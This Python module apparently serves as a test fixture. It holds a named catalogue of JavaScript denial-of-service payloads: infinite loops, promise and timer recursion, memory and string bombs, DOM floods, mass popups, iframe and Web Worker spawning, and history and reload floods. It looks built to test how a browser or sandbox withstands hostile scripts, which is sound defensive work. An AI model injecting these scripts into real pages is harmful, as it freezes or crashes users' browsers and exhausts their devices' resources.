"""Scripts that harm, by name."""

from __future__ import annotations

SPIN = "new Worker(URL.createObjectURL(new Blob(['for (;;) ;'])))"
FILL = "new Worker(URL.createObjectURL(new Blob(['const a = []; for (;;) a.push(new Uint8Array(1e7).fill(1))'])))"
FRAME = "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<script>for (;;) ;</script>'}))"
HARM = {
    # loops
    "loop": "for (;;) ;",
    "promises": "const again = () => Promise.resolve().then(again); again()",
    "at load": "addEventListener('load', () => { for (;;) ; })",
    "timer": "setTimeout(() => { for (;;) ; }, 100)",
    "frames of film": "const go = () => requestAnimationFrame(go); go()",
    "states": "setInterval(() => history.pushState(0, '', '/' + Math.random()), 0)",
    "requests": "(function again() { fetch('/x').finally(again) })()",
    "reload": "location.reload()",
    "dialogs": "for (;;) alert(1)",
    # bombs
    "heap": "const a = []; for (;;) a.push(new Array(1e5).fill({}))",
    "buffers": "const a = []; for (;;) a.push(new Uint8Array(5e7).fill(1))",
    "text": "let a = 'x'; for (;;) a += a",
    "nodes": "for (;;) document.body.append(...Array.from({length: 1000}, () => new Text('x'.repeat(99))))",
    "blobs": "const a = []; for (;;) a.push(new Blob([new Uint8Array(1e7)]))",
    # crowds
    "popups": "for (let i = 0; i < 200; i++) open('/popup')",
    "frames": f"for (let i = 0; i < 60; i++) {FRAME}",
    "workers": f"for (let i = 0; i < 30; i++) {SPIN}",
    "greedy workers": f"for (let i = 0; i < 30; i++) {FILL}",
    # and from the outside
    "deep": "const f = () => f(); try { f() } catch { } document.body.innerHTML = '<b>'.repeat(1e5)",
}
